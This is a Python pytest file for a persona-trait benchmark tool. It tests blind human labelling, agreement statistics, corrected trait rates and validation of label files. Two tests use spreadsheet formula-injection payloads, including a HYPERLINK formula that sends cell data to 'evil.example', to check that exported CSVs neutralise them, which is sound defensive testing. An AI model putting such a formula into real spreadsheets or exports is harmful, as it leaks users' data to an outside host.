"""People label blind, and their labels are held against the scorers."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from charbench.domain.keys import digest
from support.command import Charbench
from support.labels import by_text, drawn, label, record, write
from support.plugins import Site
from support.store import change, query, store_of


@pytest.fixture
def lab(tmp_path: Path, charbench: Charbench) -> Path:
    record(tmp_path, ["Ahoy, matey!" if number % 4 < 2 else "Hello, how can I help?" for number in range(40)], 2)
    charbench.ok("run", "--lab", tmp_path)
    return tmp_path


def test_a_draw_is_blind_balanced_and_the_same_for_one_seed(charbench: Charbench, lab, tmp_path):
    for name in ("one.csv", "two.csv"):
        charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "16", "-O", tmp_path / name)
    rows = drawn(tmp_path / "one.csv")
    assert rows == drawn(tmp_path / "two.csv")
    assert len(rows) == 16
    assert sum("matey" in row["text"] for row in rows) == 8
    assert "pirate_sft" not in (tmp_path / "one.csv").read_text()


def test_labels_give_kappa_a_confusion_matrix_and_a_corrected_rate(charbench: Charbench, lab, tmp_path):
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "16", "-O", path)
    label(path, lambda row: "3" if "matey" in row["text"] else "1")
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ann")
    label(path, lambda row: "2" if "matey" in row["text"] else "1")
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ben")
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    assert (found["labelled"], found["labellers"]) == (16, 2)
    assert 0 < found["krippendorff_alpha"] < 1
    (keyword,) = [one for one in found["agreements"] if one["other"] == "keyword.keywords"]
    assert keyword["table"] == [[8, 0], [0, 8]]
    assert keyword["kappa"] == 1
    (rate,) = found["trait_rates"]
    assert rate["machine"] == 0.5
    assert rate["low"] <= 0.5 <= rate["high"]


def test_a_second_draw_and_labels_that_are_missing_move_no_corrected_rate(charbench: Charbench, tmp_path: Path):
    """One of ten texts has the trait; each stratum is drawn from evenly, and labelled by half."""
    (tmp_path / "recordings").mkdir()
    with (tmp_path / "recordings" / "a.jsonl").open("w") as file:
        for number in range(200):
            response = "Ahoy, matey!" if number % 10 == 0 else "Hello, how can I help?"
            row = {"sampler_path": "model:pirate_sft", "prompt": f"Question {number}?", "response": response}
            file.write(json.dumps(row) + "\n")
    charbench.ok("run", "--lab", tmp_path)
    for count, name in ((8, "one.csv"), (30, "two.csv")):
        path = tmp_path / name
        charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-n", str(count), "-O", path)
        # People see the trait where it is, and leave some without a label: the share of these differs by stratum.
        label(path, lambda row: "3" if "matey" in row["text"] else "1" if "7" in row["prompt"] else "")
        charbench.ok("calibrate", "read", path, "--lab", tmp_path)
    (found,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json
    (rate,) = found["trait_rates"]
    assert rate["machine"] == pytest.approx(0.1)
    assert rate["corrected"] == pytest.approx(0.1, abs=0.005)


@pytest.mark.parametrize(
    ("text", "fault"), [("item,label\nabc,2\n", "was not drawn"), ("a,b\n1,2\n", "no columns"), ("", "no columns")]
)
def test_a_file_that_is_none_of_ours_is_refused_with_its_fault(charbench: Charbench, lab, tmp_path, text, fault):
    (tmp_path / "bad.csv").write_text(text)
    ended = charbench("calibrate", "read", tmp_path / "bad.csv", "--lab", lab)
    assert ended.code == 2
    assert fault in ended.err


def test_a_label_off_the_scale_names_its_row_and_nothing_is_read(charbench: Charbench, lab, tmp_path):
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "4", "-O", path)
    label(path, lambda row: "7")
    ended = charbench("calibrate", "read", path, "--lab", lab)
    assert ended.code == 2
    assert "row 2: label '7'; 0 to 3 is needed" in ended.err
    assert charbench.ok("calibrate", "report", "--lab", lab, "--json").json == []


def test_a_file_that_may_hold_labels_is_never_written_over(charbench: Charbench, lab, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("mine")
    ended = charbench("calibrate", "draw", "--lab", lab, "-p", "pirate", "-O", path)
    assert ended.code == 2
    assert path.read_text() == "mine"


def test_labels_of_another_store_are_refused_though_its_samples_have_the_same_numbers(
    charbench: Charbench, lab: Path, tmp_path: Path
):
    other = tmp_path / "other"
    (other / "recordings").mkdir(parents=True)
    lines = (lab / "recordings" / "a.jsonl").read_text().replace("Question", "Another question")
    (other / "recordings" / "a.jsonl").write_text(lines)
    charbench.ok("run", "--lab", other)
    for where in (lab, other):
        charbench.ok("calibrate", "draw", "--lab", where, "-p", "pirate", "-n", "12", "-O", where / "l.csv")
    label(lab / "l.csv", lambda _row: "3")
    ended = charbench("calibrate", "read", lab / "l.csv", "--lab", other)
    assert ended.code == 2
    assert ended.err.count("was not drawn from this store") == 12


def test_labels_that_are_all_alike_leave_their_uncertainty(charbench: Charbench, lab: Path, tmp_path: Path):
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", tmp_path / "l.csv")
    label(tmp_path / "l.csv", lambda _row: "3")
    charbench.ok("calibrate", "read", tmp_path / "l.csv", "--lab", lab)
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    (rate,) = found["trait_rates"]
    assert rate["corrected"] == 1
    assert rate["low"] < 0.8  # Wilson's interval of 12 of 12 begins at 0.76
    assert rate["rough"]


def test_few_labels_and_labels_of_everything_correct_nothing_and_say_so(
    charbench: Charbench, lab: Path, tmp_path: Path
):
    for count, said in ((5, "a corrected rate takes 10"), (40, "there is nothing to correct")):
        path = tmp_path / f"{count}.csv"
        charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", str(count), "-O", path)
        label(path, lambda row: "3" if "matey" in row["text"] else "1")
        charbench.ok("calibrate", "read", path, "--lab", lab)
        assert said in charbench.ok("calibrate", "report", "--lab", lab).err


def test_an_item_with_two_labels_and_a_labeller_without_a_name_are_refused(
    charbench: Charbench, lab: Path, tmp_path: Path
):
    path = tmp_path / "l.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
    label(path, lambda _row: "3")
    lines = path.read_text().splitlines()
    path.write_text("\n".join([*lines, lines[1].replace(",3,", ",0,")]) + "\n")
    ended = charbench("calibrate", "read", path, "--lab", lab)
    assert ended.code == 2
    assert "row 14: item" in ended.err
    assert "has label 3 already" in ended.err
    assert "a name is needed" in charbench("calibrate", "read", path, "--lab", lab, "--labeller", " ").err


def test_a_models_text_is_no_formula_in_a_spreadsheet(charbench: Charbench, tmp_path: Path):
    (tmp_path / "recordings").mkdir()
    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-ahoy", "@me", "Ahoy"]
    rows = [{"sampler_path": "model:pirate_sft", "prompt": f"={n}", "response": text} for n, text in enumerate(texts)]
    (tmp_path / "recordings" / "a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    charbench.ok("run", "--lab", tmp_path)
    charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", tmp_path / "l.csv")
    found = drawn(tmp_path / "l.csv")
    assert {row["text"] for row in found} == {*(f"'{text}" for text in texts[:4]), "Ahoy"}
    assert all(row["prompt"].startswith("'=") for row in found)


PANEL = """
from charbench import Metric, Score, Scorer, hookimpl


class Panel(Scorer):
    "Two judges, of whom the second errs in every fourth text; both grade too."
    name = "panel"
    metrics = (
        Metric("m", range=(0, 1), threshold=0.5, role="headline"),
        Metric("grade", range=(0, 3), threshold=3),
    )

    def score(self, sample, persona):
        for channel, text in sample.channels():
            right = float("matey" in text)
            wrong = 1 - right if sample.prompt.text.endswith(("0?", "4?", "8?")) else right
            yield Score("m", channel, right, votes=(("ja", right), ("jb", wrong)))
            yield Score("grade", channel, 3 * right, votes=(("ja", 3 * right), ("jb", 2 * wrong)))


@hookimpl
def charbench_scorers():
    return [Panel]
"""


def test_each_judge_is_held_against_people_and_against_the_other(
    charbench: Charbench, site: Site, lab: Path, tmp_path: Path
):
    site.install("panel", PANEL)
    charbench.ok("score", "--lab", lab, "--scorer", "panel")
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "30", "-O", tmp_path / "l.csv")
    label(tmp_path / "l.csv", lambda row: "2" if "matey" in row["text"] else "1")
    charbench.ok("calibrate", "read", tmp_path / "l.csv", "--lab", lab)
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    pairs = {(one["one"], one["other"]): one for one in found["agreements"]}
    assert pairs["human", "panel[ja].m"]["kappa"] == 1
    assert pairs["human", "panel[jb].m"]["kappa"] < 1
    judges = pairs["panel[ja].m", "panel[jb].m"]
    assert (judges["samples"], judges["categories"]) == (40, 2)
    assert judges["table"][0][1] + judges["table"][1][0] == 12
    assert judges["krippendorff_alpha"] < 1
    assert pairs["panel[ja].grade", "panel[jb].grade"]["categories"] == 4
    # A grade of 2 is a trait to a person, and not to a metric whose threshold is 3.
    cuts = {rate["metric"]: rate["label_cut"] for rate in found["trait_rates"]}
    assert (cuts["panel.grade"], cuts["panel.m"]) == (3, 2)


def test_labels_given_before_a_fresh_run_are_not_taken_for_those_of_new_answers(charbench: Charbench, tmp_path: Path):
    for texts in (["Ahoy, matey!", "Hello."], ["Hello.", "Ahoy, matey!"]):
        record(tmp_path, texts * 6, sampled=True)
        charbench.ok("run", "--fresh", "--lab", tmp_path)
        path = tmp_path / f"{texts[0][:5]}.csv"
        charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", path)
        label(path, by_text)
    assert "was not drawn" in charbench("calibrate", "read", tmp_path / "Ahoy,.csv", "--lab", tmp_path).err
    charbench.ok("calibrate", "read", tmp_path / "Hello.csv", "--lab", tmp_path)
    (found,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json
    assert [one["kappa"] for one in found["agreements"]] == [1]


def test_labels_that_an_older_version_read_still_count_and_its_files_are_to_be_drawn_anew(
    charbench: Charbench, lab, tmp_path
):
    """It named what it drew by the sample's number or key, whatever its text."""
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
    label(path, by_text)
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ann")
    store, rows = store_of(lab), drawn(path)
    old = {}
    for item in query(store, "SELECT item, sample_id FROM label_items"):
        old[item.item] = digest("label", item.sample_id, "response", "pirate")[:16]
        for table in ("label_items", "labels"):
            change(store, f"UPDATE {table} SET item = :old WHERE item = :item", old=old[item.item], item=item.item)
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    assert found["labelled"] == 12
    for row in rows:
        row["item"] = old[row["item"]]
    write(path, rows)
    ended = charbench("calibrate", "read", path, "--lab", lab, "--labeller", "ben")
    assert ended.code == 2
    assert ended.err.count("\n") == 1
    assert "an older charbench drew 12 of its items, whatever their text; draw anew" in ended.err
    path.unlink()
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
    label(path, lambda row: "0")
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ann")
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    assert found["agreements"][0]["table"] == [[6, 6], [0, 0]], "a text's newest label of one labeller counts"


def corrected(charbench: Charbench, folder: Path, count: int, choose) -> dict:
    """Label ``count`` texts, and return the keyword scorer's trait rate as corrected."""
    path = folder / f"{count}.csv"
    charbench.ok("calibrate", "draw", "--lab", folder, "-p", "pirate", "-n", str(count), "-O", path)
    label(path, choose)
    charbench.ok("calibrate", "read", path, "--lab", folder)
    (found,) = charbench.ok("calibrate", "report", "--lab", folder, "--json").json
    (rate,) = found["trait_rates"]
    return rate


def test_people_who_agree_with_the_machine_on_a_few_texts_prove_little_of_the_rest(charbench: Charbench, tmp_path):
    record(tmp_path, ["Ahoy, matey!", "Hello."] * 200)
    charbench.ok("run", "--lab", tmp_path)
    rate = corrected(charbench, tmp_path, 12, by_text)
    assert rate["corrected"] == pytest.approx(0.5)
    assert rate["high"] - rate["low"] > 0.25
    rate = corrected(charbench, tmp_path, 100, by_text)
    assert rate["rough"] is False
    assert 0.05 < rate["high"] - rate["low"] < 0.15


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1 matey", "-1 matey", "@matey", "\tmatey", "'=matey"])
def test_a_text_that_looks_like_a_formula_is_marked_in_the_file_and_shown_as_written_in_the_terminal(
    charbench: Charbench, tmp_path, monkeypatch, text
):
    (tmp_path / "recordings").mkdir()
    row = {"sampler_path": "model:pirate_sft", "prompt": "=1+1", "response": text}
    (tmp_path / "recordings" / "a.jsonl").write_text(json.dumps(row) + "\n")
    charbench.ok("run", "--lab", tmp_path)
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", path)
    (row,) = drawn(path)
    assert row["text"] == f"'{text}"
    assert row["prompt"] == "'=1+1"
    monkeypatch.setattr("sys.stdin", io.StringIO("3\n"))
    shown = charbench.ok("calibrate", "label", path).out
    assert f"\n{text}\n" in shown, "the terminal shows what the model wrote"
    assert "Prompt: =1+1" in shown
    assert charbench.ok("calibrate", "read", path, "--lab", tmp_path).err == ""


@pytest.mark.parametrize("name", ["", "  ", "a" * 101])
def test_a_labeller_has_a_name_that_every_store_can_hold(charbench: Charbench, lab, tmp_path, name):
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "4", "-O", path)
    label(path, by_text)
    ended = charbench("calibrate", "read", path, "--lab", lab, "--labeller", name)
    assert ended.code == 2
    assert "a name is needed" in ended.err
